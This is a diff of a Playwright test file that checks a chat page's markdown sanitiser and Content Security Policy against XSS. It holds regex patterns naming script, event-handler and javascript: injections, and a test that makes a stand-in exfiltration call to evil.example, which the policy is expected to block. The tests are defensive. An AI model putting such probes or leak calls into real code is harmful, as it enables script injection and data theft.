@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
-import json
+import re
 
 import pytest
 from playwright.async_api import Locator, Page, expect
 
+from tests.browser.conftest import Watch
 from tests.browser.fake import FakeServer, says
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
@@ -65,8 +66,10 @@ async def test_hostile_text_arriving_character_by_character_does_nothing(
     assert await page.evaluate("window.pwned") is None
 
 
-async def test_the_sanitiser_holds_without_the_markdown_step(page: Page) -> None:
+async def test_the_sanitiser_holds_without_the_markdown_step(page: Page, watch: Watch) -> None:
     """The renderer escapes most tags already; the gate behind it must not depend on that."""
+    # The browser reports handlers and styles at the moment they are parsed, before they are taken out.
+    watch.allow("Content Security Policy|policy violation")
     kept = await page.evaluate(
         """async (payloads) => {
             const { sanitise } = await import("/static/markdown.js");
@@ -76,15 +79,12 @@ async def test_the_sanitiser_holds_without_the_markdown_step(page: Page) -> None
                 return box.innerHTML;
             });
         }""",
-        PAYLOADS[:12],
+        PAYLOADS,
     )
     for html in kept:
-        assert not any(
-            bad in html
-            for bad in ("<script", "<img", "<svg", "<iframe", "<style", "<form", "<base", "<meta", "<math")
-        )
-        assert " on" not in html or "onclick" not in html
-        assert 'href="javascript' not in html.lower()
+        assert not re.search(r"<(script|img|svg|iframe|style|form|input|base|meta|math)", html), html
+        assert not re.search(r"<[^>]*\s(on\w+|style|id|name)=", html), html
+        assert not re.search(r"href=\"(?!https?:|mailto:)", html), html
 
 
 async def test_tags_are_shown_as_the_text_they_are(page: Page, fake: FakeServer) -> None:
@@ -118,18 +118,17 @@ async def test_user_text_is_text(page: Page, fake: FakeServer) -> None:
     await expect(page.locator("#conversations li")).to_contain_text("<img src=x")
 
 
-async def test_the_policy_blocks_what_slips_through(page: Page, watch) -> None:  # type: ignore[no-untyped-def]
-    watch.allow("policy violation|Content Security Policy|TrustedHTML|Trusted")
+async def test_the_policy_blocks_what_slips_through(page: Page, watch: Watch) -> None:
+    watch.allow("policy violation|Content Security Policy|TrustedHTML")
     blocked = await page.evaluate(
         """async () => {
-            const results = {};
-            try { document.createElement("div").innerHTML = "<b>x</b>"; results.html = "set"; } catch { results.html = "blocked"; }
-            try { await fetch("https://evil.example/"); results.fetch = "sent"; } catch { results.fetch = "blocked"; }
-            try { eval("1"); results.eval = "ran"; } catch { results.eval = "blocked"; }
-            return results;
+            const html = () => { document.createElement("div").innerHTML = "<b>x</b>"; };
+            const leak = () => fetch("https://evil.example/");
+            const outcome = async (act) => { try { await act(); return "allowed"; } catch { return "blocked"; } };
+            return [await outcome(html), await outcome(leak)];
         }"""
     )
-    assert blocked == {"html": "blocked", "fetch": "blocked", "eval": "blocked"}
+    assert blocked == ["blocked", "blocked"]
 
 
 MARKDOWN = """# Title
@@ -177,7 +176,10 @@ async def test_growing_text_ends_as_the_same_page_as_the_text_at_once(page: Page
             const frame = () => new Promise(requestAnimationFrame);
             const grow = document.createElement("div"), whole = document.createElement("div");
             const view = new MarkdownView(grow);
-            for (let end = 1; end <= text.length; end += 1) { view.grow(text.slice(0, end)); if (end % 3 === 0) await frame(); }
+            for (let end = 1; end <= text.length; end += 1) {
+                view.grow(text.slice(0, end));
+                if (end % 3 === 0) await frame();
+            }
             view.finish(text);
             new MarkdownView(whole).finish(text);
             return [grow.innerHTML, whole.innerHTML];
@@ -195,7 +197,7 @@ async def test_growing_text_ends_as_the_same_page_as_the_text_at_once(page: Page
         "example.com/docs",
     ):
         assert part in once
-    assert json.dumps(once).count("<ol") == 1
+    assert once.count("<ol") == 1
 
 
 async def test_finished_blocks_keep_their_elements(page: Page) -> None:
@@ -207,9 +209,10 @@ async def test_finished_blocks_keep_their_elements(page: Page) -> None:
             const root = document.createElement("div");
             const view = new MarkdownView(root);
             view.grow("First.\\n\\n```\\ncode 1\\n"); await frame(); await frame();
-            const first = root.firstElementChild, text = root.querySelector("code").firstChild;
+            const first = root.firstElementChild;
+            const text = root.querySelector("code").firstChild;
             view.grow("First.\\n\\n```\\ncode 1\\ncode 2\\n"); await frame(); await frame();
-            const same = [first === root.firstElementChild, text === root.querySelector("code").firstChild, text.data];
+            const same = [first === root.firstElementChild, root.contains(text), text.data];
             view.finish("First.\\n\\n```\\ncode 1\\ncode 2\\n```\\n\\nLast.");
             return [...same, first === root.firstElementChild, root.children.length];
         }"""
